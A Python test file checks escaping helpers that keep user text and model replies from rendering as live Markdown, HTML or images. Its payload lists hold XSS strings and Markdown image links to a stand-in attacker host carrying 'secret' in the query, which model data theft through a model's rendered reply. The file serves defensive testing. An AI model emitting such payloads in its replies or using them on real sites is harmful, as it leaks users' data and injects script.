"""User strings shown through Markdown-rendering calls render as their literal text, never as markup."""

from __future__ import annotations

import html
import random
import re

import pytest
from markdown_it import MarkdownIt

from backend.text_safety import plain_markdown, plain_markdown_lines, plotly_text, reply_markdown

PAYLOADS = [
    "![x](http://evil/a.png)",
    "[click](http://evil)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    ":red[big] and :material/home: and :smile:",
    ":blue-background[badge]",
    "**bold** _it_ `code` ~~gone~~",
    "# heading",
    "- list item",
    "1. ordered",
    "    indented code",
    "> quote",
    "---",
    "a | b | c",
    "<http://evil>",
    "http://evil.example/a and www.evil.example and boss@evil.example",
    "$x^2$ and $$y$$",
    "&lt;b&gt; &amp; &#60;",
    "line one\nline two\r\n# not a heading",
    "back\\slash\\[x]",
    "[a][ref]\n\n[ref]: http://evil",
    "评论 数据.csv",
    "ok-file.name (v2).csv",
    "_under_ __dunder__ snake_case_ x_",
    "#hash & &amp; {braces} ^caret! ![img]",
]
# The zero-width spaces are part of the literal text (they break auto-linking and shortcodes).
_ZERO_WIDTH_SPACE = "\u200b"


def _render(source: str) -> str:
    # CommonMark with raw HTML allowed: the strictest reading of what Streamlit could do with it.
    return MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(source)


def _text_of(rendered: str) -> str:
    inner = re.sub(r"^<p>|</p>\n?$", "", rendered)
    return html.unescape(inner).replace(_ZERO_WIDTH_SPACE, "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_renders_as_one_paragraph_of_its_own_text(payload):
    rendered = _render(plain_markdown(payload))
    assert rendered.startswith("<p>") and rendered.count("<p>") == 1, rendered
    # Only the paragraph tags: no a, img, script, em, code, h1, li, table, del, blockquote, pre.
    assert re.findall(r"<(/?\w+)", rendered) == ["p", "/p"], rendered
    expected = re.sub(r"[\r\n]+", " ", payload).lstrip(" ")
    assert _text_of(rendered).lstrip("\u00a0") == expected


@pytest.mark.parametrize("payload", PAYLOADS)
def test_escaped_source_has_no_live_markup_characters(payload):
    escaped = plain_markdown(payload)
    unescaped = re.sub(r"\\.", "", escaped)  # drop every backslash escape
    for char in "[]<>`*|~$":
        assert char not in unescaped, (char, escaped)
    # "_" only inside words (never emphasis there), "&" never before an entity name, "#" not first.
    assert not re.search(r"(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])", unescaped), escaped
    assert not re.search(r"&[A-Za-z#]", unescaped) and not unescaped.lstrip("\u00a0").startswith("#")
    assert "\n" not in escaped and "\r" not in escaped
    # Streamlit's directives, icons, emoji shortcodes and GFM autolinks all need these sequences.
    for pattern in (r":[a-z]", r"://", r"www\.", r"@\w"):
        assert not re.search(pattern, escaped), (pattern, escaped)


def test_ordinary_text_is_unchanged():
    for text in (
        "reviews 2026.csv",
        "3,000 different values",
        "0.500",
        "评论数据",
        "The file is empty.",
        "Set LSM_OFFLINE=1 (see the README) & try again!",
    ):
        assert plain_markdown(text) == text


def test_non_strings_are_shown_as_their_text():
    assert plain_markdown(3) == "3"
    assert plain_markdown(None) == "None"


def test_plotly_text_leaves_no_tag_plotly_would_draw():
    payload = "<a href='http://evil.example'>x</a><b>y</b><br><span style='font-size:90px'>z</span> & 1 < 2"
    shown = plotly_text(payload)
    assert "<" not in shown and ">" not in shown
    assert html.unescape(shown) == payload  # plotly decodes the entities: the reader sees what was typed


@pytest.mark.parametrize("escape", [plain_markdown, plotly_text])
def test_direction_overrides_cannot_reorder_the_words_around_a_name(escape):
    # U+202E reverses everything after it on the line: "invoice\u202efdp.exe is empty" would show as
    # "invoice" followed by "ytpme si exe.pdf", a spoofed file name and a garbled message.
    shown = escape("invoice\u202efdp.exe \u2066x\u2069 \u202bשלום\u202c is empty")
    assert shown == "invoicefdp.exe x שלום is empty"


def test_plain_markdown_lines_keeps_each_line_and_no_line_starts_a_block():
    text = "Hello ![x](http://evil/a.png)\n# head\n- item\n    code\n> quote\r\n\nnew paragraph"
    rendered = MarkdownIt("commonmark").render(plain_markdown_lines(text))
    assert rendered == (
        "<p>Hello ![x](http:\u200b//evil/a.png)<br />\n# head<br />\n- item<br />\n"
        "\u00a0\u00a0\u00a0\u00a0code<br />\n&gt; quote</p>\n<p>new paragraph</p>\n"
    )


def _tokens(source: str) -> list:
    parser = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough")
    tokens = []
    for token in parser.parse(source):
        tokens.append(token)
        tokens.extend(token.children or [])
    return tokens


# Ways a model's reply could show an image or raw HTML, the code-shaped ones included: a fence or
# span this module wrongly took for code would let what is inside through.
REPLY_ATTACKS = [
    "Sure! ![](http://attacker/?q=secret)",
    "![a][ref]\n\n[ref]: http://attacker/x.png",
    "![shortcut]\n\n[shortcut]: http://attacker/x.png",
    "[![inner](http://attacker/i.png)](http://site)",
    "\\\\![double backslash](http://attacker/a.png)",
    "<img src=http://attacker/a.png>",
    "<div>\n<img src=x>\n</div>",
    "- item\n\n  ```\n![fence ended by the list](http://attacker/a.png)\n  ```",
    "> ```\n\n![fence ended by the quote](http://attacker/a.png)\n```",
    "| a | b |\n| - | - |\n| `x | ![cell](http://attacker/a.png) | y` | z |",
    "`a ``b` ![between](http://attacker/a.png) ``",
    "<a href='`'>![x](http://attacker/a.png)`</a>",
    "~~~\n~~~~\n![x](http://attacker/a.png)",
    # Found by the random test below: backticks the parser pairs across lines, a code span opened
    # inside a table row, a tilde fence or table header read differently, a fence ended early.
    "\\|<!-- c -->``!   ```\n  ```<img src=x>   ```",
    "|[!```|[-     ```<!-- c -->```text",
    "~~~- | a | b |\n| - | - |\n~~~\n\n<!-- c -->",
    "  ```\ncode\n  ```\n<img src=x>",
    "[a](/u`) ![x](http://attacker/a.png) `",
]
# Replies that show no image as they are, and must not be turned into one (an escape undone, code
# taken for prose or prose for code).
SAFE_LOOKALIKES = [
    "\\![escaped bang](http://attacker/a.png)",
    "<http://attacker/autolink>",
    "```\nnever closed\n![x](http://attacker/a.png)",
    "\\`` ![x](http://attacker/a.png) `",
]


_LIVE = {"image", "html_inline", "html_block"}


@pytest.mark.parametrize("reply", REPLY_ATTACKS + SAFE_LOOKALIKES)
def test_reply_markdown_shows_no_image_and_no_raw_html(reply):
    assert not {token.type for token in _tokens(reply_markdown(reply))} & _LIVE


@pytest.mark.parametrize("reply", REPLY_ATTACKS)
def test_each_attack_is_live_without_reply_markdown(reply):
    # So the test above would catch a reply_markdown that did nothing.
    assert {token.type for token in _tokens(reply)} & _LIVE


def test_reply_markdown_keeps_the_models_formatting_and_its_code_as_written():
    reply = (
        "## Steps\n\n1. **Bold** and _it_\n2. a [link](https://example.com)\n\n"
        "| x | y |\n| - | - |\n| 1 | 2 |\n\n"
        "```python\nif a < b and not x![0]:\n    print('<b>')\n```\n\nUse `a < b` and `![x](y)` literally."
    )
    shown = reply_markdown(reply)
    # Nothing outside code needed changing; in inline code an invisible word joiner stops "<" and "![".
    assert shown == reply.replace("`a < b`", "`a <\u2060 b`").replace("`![x](y)`", "`!\u2060[x](y)`")
    rendered = _render(shown)
    for tag in ("<h2>", "<ol>", "<strong>", "<em>", '<a href="https://example.com">', "<table>"):
        assert tag in rendered
    assert "if a &lt; b and not x![0]:\n    print('&lt;b&gt;')" in rendered
    assert "<code>!\u2060[x](y)</code>" in rendered


def test_reply_markdown_shows_the_neutralised_parts_as_their_text():
    rendered = _render(reply_markdown("Look ![cat](http://x/c.png) and 1 < 2 <b>bold</b>"))
    assert '<a href="http://x/c.png">cat</a>' in rendered  # a link fetches nothing until clicked
    assert html.unescape(re.sub(r"<a [^>]*>|</a>", "", rendered)) == "<p>Look !cat and 1 < 2 <b>bold</b></p>\n"


_PIECES = ["```", "~~~", "  ```", "    ```", "`", "``", "\\", "\\`", "![a](http://e/x)", "![b]", "[b]: http://e/y"]
_PIECES += [
    "<img src=x>",
    "<",
    "!",
    "[",
    "](http://e)",
    "- ",
    "> ",
    "1. ",
    "\n",
    "\n\n",
    "  ",
    "|",
    "| a | b |\n| - | - |\n",
]
_PIECES += ["text", "\t", "<!-- c -->", "&", "#", "***", "[a](/u", ")", "'", "<http://e>", "*", "code\n"]


def test_random_mixtures_of_markdown_pieces_never_show_an_image_or_html():
    # Seeded, so a failure names a reply to add to REPLY_ATTACKS; 210,000 draws passed once.
    draw = random.Random(20261207)
    for _ in range(3000):
        reply = "".join(draw.choice(_PIECES) for _ in range(draw.randint(1, 16)))
        assert not {token.type for token in _tokens(reply_markdown(reply))} & _LIVE, reply


def test_a_streamed_code_block_not_yet_closed_is_kept_as_written():
    partial = "Here:\n\n```html\n<b>if a < b</b>\n![x](y)"
    assert reply_markdown(partial) == partial
    assert "&lt;b&gt;if a &lt; b&lt;/b&gt;\n![x](y)" in _render(partial)


def test_reply_markdown_keeps_lines_and_empty_replies():
    assert reply_markdown("") == ""
    assert reply_markdown("a\r\n\r\n```\n```\n\n```\nb\n```") == "a\n\n```\n```\n\n```\nb\n```"
